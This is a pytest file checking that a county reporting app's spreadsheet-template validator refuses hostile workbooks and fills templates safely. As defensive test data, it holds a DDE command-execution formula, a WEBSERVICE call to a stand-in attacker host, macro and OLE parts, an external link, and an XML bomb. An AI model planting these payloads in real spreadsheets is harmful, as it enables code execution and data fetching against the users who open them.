"""The county's own spreadsheet: what is refused, and what comes out filled in."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from lianxin.foundation.refusals import Refused
from lianxin.work.returns.layouts import fill, names_in, names_of_cells, refuse_unsafe
from lianxin.work.returns.tests.factories import NAME, make_workbook


def checked(content: bytes, name=NAME):
    refuse_unsafe(BytesIO(content), name)


def with_part(content: bytes, name: str, text: bytes) -> bytes:
    """The workbook with a part added or replaced."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, text, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as book:
        return book.read(name)


def test_a_plain_workbook_passes_and_names_its_cells():
    content = make_workbook({"A1": "上级交办", "B1": "{{ tasks }}"}, names={"trained": "B2"})
    checked(content)
    assert names_in(BytesIO(content)) == {"tasks"}
    assert names_of_cells(BytesIO(content)) == {"trained"}


LINK = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId9" Type="http://x/externalLink" '
    b'Target="http://evil.example/a.xlsx" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "a program": ("xl/vbaProject.bin", b"x", "宏"),
    "another file": ("xl/embeddings/oleObject1.bin", b"x", "嵌入"),
    "outside data": ("xl/connections.xml", b"<connections/>", "外部数据"),
    "an outside link": ("xl/worksheets/_rels/sheet1.xml.rels", LINK, "evil.example"),
    "an entity": ("xl/styles.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>', "另存为"),
    "a bomb": ("xl/worksheets/sheet9.xml", b"<x>" + b" " * 45_000_000 + b"</x>", "超出允许的范围"),
    "broken XML": ("xl/worksheets/_rels/sheet1.xml.rels", b"<Relationships", "已损坏"),
}


@pytest.mark.parametrize("what", list(HOSTILE))
def test_a_hostile_workbook_is_refused_in_words(what):
    name, text, words = HOSTILE[what]
    with pytest.raises(Refused, match=words):
        checked(with_part(make_workbook({"A1": "{{ tasks }}"}), name, text))


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://evil.example")', "=cmd|'/c calc'!A0", "=[1]Sheet1!A1"],
)
def test_a_formula_that_fetches_is_refused(formula):
    with pytest.raises(Refused, match="公式"):
        checked(make_workbook({"A1": "{{ tasks }}"}, formula=formula))


def test_other_files_are_refused_whatever_their_name():
    for content, name in (
        (b"%PDF-1.7", NAME),
        (b"", NAME),
        (b"PK\x03\x04broken", NAME),
        (b"a,b\n1,2\n", "a.csv"),
        (make_workbook({}), "a.docx"),
    ):
        with pytest.raises(Refused):
            checked(content, name)


def test_a_field_written_wrongly_names_its_cell():
    with pytest.raises(Refused, match="B3"):
        names_in(BytesIO(make_workbook({"B3": "{{ 培训 }}"})))


def test_numbers_become_numbers_words_stay_words_and_formulas_stay():
    content = make_workbook(
        {
            "A1": "{{ unit }}代表工作报表",
            "B2": "{{ tasks }}",
            "B3": "{{ remarks }}",
            "B4": "{{ nothing }}",
        },
        names={"trained": "C7"},
        formula="=SUM(B2:B3)",
    )
    made = fill(
        BytesIO(content),
        {"unit": "柳溪镇", "tasks": 22, "remarks": "=1+1", "trained": 650},
    )
    sheet = load_workbook(BytesIO(made)).active
    assert sheet["A1"].value == "柳溪镇代表工作报表"
    assert (sheet["B2"].value, sheet["B2"].data_type) == (22, "n")
    # What a body typed is text, whatever it begins with.
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=1+1", "s")
    assert not sheet["B4"].value
    assert sheet["C7"].value == 650
    assert sheet["F1"].value == "=SUM(B2:B3)"
    assert b"fullCalcOnLoad" in part_of(made, "xl/workbook.xml")


def test_the_rest_of_the_workbook_is_kept_as_it_was():
    content = make_workbook({"A1": "{{ tasks }}", "A2": "合计"})
    made = fill(BytesIO(content), {"tasks": 1})
    assert part_of(made, "xl/styles.xml") == part_of(content, "xl/styles.xml")
